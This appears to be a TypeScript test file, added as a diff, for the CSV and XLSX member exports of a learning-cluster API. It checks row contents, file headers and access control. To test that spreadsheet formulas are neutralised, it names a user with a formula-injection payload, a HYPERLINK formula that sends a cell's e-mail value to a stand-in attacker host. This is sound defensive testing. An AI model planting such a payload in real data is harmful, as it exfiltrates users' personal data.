@@ -1,0 +1,179 @@
+import { parse } from 'csv-parse/sync'
+import { strFromU8, unzipSync } from 'fflate'
+import type { FastifyInstance } from 'fastify'
+import readXlsxFile from 'read-excel-file/node'
+import { describe, expect } from 'vitest'
+import { it } from '../testing/app.ts'
+import { bearer, createUser, type TestUser, tokenFor } from '../testing/factories.ts'
+import { importCivicBasics } from '../testing/learning.ts'
+
+const base = '/api/v1/learning-clusters'
+const header = [
+  'Name',
+  'E-mail',
+  'Municipality',
+  'Country',
+  'Joined (UTC)',
+  'Source',
+  'Left (UTC)',
+  'Reason for leaving',
+]
+const hyperlink = '=HYPERLINK("https://evil.example/?d="&B2,"Detalji")'
+
+interface Setup {
+  clusterId: string
+  coordinator: TestUser
+  otherCoordinator: TestUser
+  trainer: TestUser
+  learner: TestUser
+}
+
+let setup: Setup | undefined
+
+/** A cluster of skgo with three members from Serbian places; one left, with a reason. */
+async function setUp(app: FastifyInstance): Promise<Setup> {
+  if (setup) return setup
+  await importCivicBasics(app)
+  const coordinator = await createUser(app, { roles: ['coordinator'], association: 'skgo' })
+  const as = bearer(tokenFor(app, coordinator))
+  const created = await app.inject({
+    method: 'POST',
+    url: base,
+    headers: as,
+    payload: {
+      name: 'Ljudska prava: Čačak i Niš',
+      startsOn: '2027-02-01',
+      endsOn: '2027-05-31',
+      capacity: 10,
+      courses: [{ courseSlug: 'civic-basics', languages: ['en'] }],
+    },
+  })
+  const clusterId = created.json().id as string
+  const djordje = await createUser(app, {
+    name: 'Đorđe Šćekić',
+    municipality: { country: 'RS', name: 'Čačak' },
+  })
+  const attacker = await createUser(app, {
+    name: hyperlink,
+    municipality: { country: 'RS', name: 'Niš' },
+  })
+  const direct = await createUser(app, { name: 'Ana Udruženje', association: 'skgo' })
+  const added = await app.inject({
+    method: 'POST',
+    url: `${base}/${clusterId}/members`,
+    headers: as,
+    payload: { userIds: [djordje.id, attacker.id, direct.id] },
+  })
+  expect(added.statusCode, added.body).toBe(200)
+  const left = await app.inject({
+    method: 'POST',
+    url: `${base}/${clusterId}/members/${direct.id}/withdrawal`,
+    headers: as,
+    payload: { reason: '-2+3 premeštena u drugo odeljenje' },
+  })
+  expect(left.statusCode, left.body).toBe(204)
+  const trainer = await createUser(app, { roles: ['trainer'], association: 'skgo' })
+  await app.inject({
+    method: 'PUT',
+    url: `${base}/${clusterId}/trainers/${trainer.id}`,
+    headers: as,
+  })
+  setup = {
+    clusterId,
+    coordinator,
+    otherCoordinator: await createUser(app, { roles: ['coordinator'], association: 'zels' }),
+    trainer,
+    learner: djordje,
+  }
+  return setup
+}
+
+const download = (app: FastifyInstance, user: TestUser, url: string) =>
+  app.inject({ method: 'GET', url, headers: bearer(tokenFor(app, user)) })
+
+/** The members as the list shows them, to compare with what the files say. */
+const expectedRows = (emails: Record<string, string>) => [
+  [`'${hyperlink}`, emails.attacker, 'Niš', 'RS', 'assignment', ''],
+  ['Ana Udruženje', emails.direct, '', 'RS', 'assignment', "'-2+3 premeštena u drugo odeljenje"],
+  ['Đorđe Šćekić', emails.djordje, 'Čačak', 'RS', 'assignment', ''],
+]
+
+async function emailsOf(app: FastifyInstance, clusterId: string) {
+  const rows = await app.db
+    .selectFrom('clusterMembers as cm')
+    .innerJoin('users as u', 'u.id', 'cm.userId')
+    .select(['u.name', 'u.email'])
+    .where('cm.clusterId', '=', clusterId)
+    .execute()
+  const by = (name: string) => rows.find((row) => row.name === name)!.email
+  return { direct: by('Ana Udruženje'), djordje: by('Đorđe Šćekić'), attacker: by(hyperlink) }
+}
+
+describe('members export', () => {
+  it('CSV: every member, current and former, with place and dates; formulas neutralised', async ({
+    app,
+  }) => {
+    const { clusterId, coordinator } = await setUp(app)
+    const response = await download(app, coordinator, `${base}/${clusterId}/exports/members.csv`)
+    expect(response.statusCode, response.body).toBe(200)
+    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8')
+    expect(response.headers['content-disposition']).toBe(
+      'attachment; filename="members-Ljudska-prava-Cacak-i-Nis.csv"',
+    )
+    expect(response.headers['cache-control']).toBe('no-store')
+    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+
+    const rows = parse(response.rawPayload.toString('utf8'), { bom: true }) as string[][]
+    expect(rows[0]).toEqual(header)
+    const emails = await emailsOf(app, clusterId)
+    // Name, e-mail, municipality, country, source, reason: the dates are checked by shape.
+    expect(rows.slice(1).map((row) => [...row.slice(0, 4), row[5], row[7]])).toEqual(
+      expectedRows(emails),
+    )
+    for (const row of rows.slice(1)) expect(row[4]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/)
+    expect(rows.map((row) => row[6] !== '')).toEqual([true, false, true, false])
+  })
+
+  it('XLSX: the same members, read by another library; no cell is a formula', async ({ app }) => {
+    const { clusterId, coordinator } = await setUp(app)
+    const response = await download(app, coordinator, `${base}/${clusterId}/exports/members.xlsx`)
+    expect(response.statusCode, response.body).toBe(200)
+    expect(response.headers['content-type']).toBe(
+      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+    )
+    expect(response.headers['content-disposition']).toBe(
+      'attachment; filename="members-Ljudska-prava-Cacak-i-Nis.xlsx"',
+    )
+    const [sheet] = await readXlsxFile(response.rawPayload)
+    expect(sheet!.sheet).toBe('Members')
+    expect(sheet!.data[0]).toEqual(header)
+    const emails = await emailsOf(app, clusterId)
+    expect(
+      sheet!.data.slice(1).map((row) => [...row.slice(0, 4), row[5], row[7]].map((c) => c ?? '')),
+    ).toEqual(expectedRows(emails))
+    for (const row of sheet!.data.slice(1)) expect(row[4]).toBeInstanceOf(Date)
+    const files = unzipSync(new Uint8Array(response.rawPayload))
+    expect(strFromU8(files['xl/worksheets/sheet1.xml']!)).not.toMatch(/<f[\s>/]/)
+  })
+
+  it("the cluster's trainers may download it; another association's coordinator finds no cluster", async ({
+    app,
+  }) => {
+    const { clusterId, trainer, otherCoordinator, learner } = await setUp(app)
+    for (const format of ['csv', 'xlsx']) {
+      const url = `${base}/${clusterId}/exports/members.${format}`
+      expect((await download(app, trainer, url)).statusCode).toBe(200)
+      const hidden = await download(app, otherCoordinator, url)
+      expect(hidden.statusCode).toBe(404)
+      expect(hidden.headers['content-type']).toMatch(/^application\/problem\+json/)
+      expect((await download(app, learner, url)).statusCode).toBe(403)
+      expect((await app.inject({ method: 'GET', url })).statusCode).toBe(401)
+      const unknown = await download(
+        app,
+        setup!.coordinator,
+        `${base}/00000000-0000-4000-8000-000000000000/exports/members.${format}`,
+      )
+      expect(unknown.statusCode).toBe(404)
+    }
+  })
+})
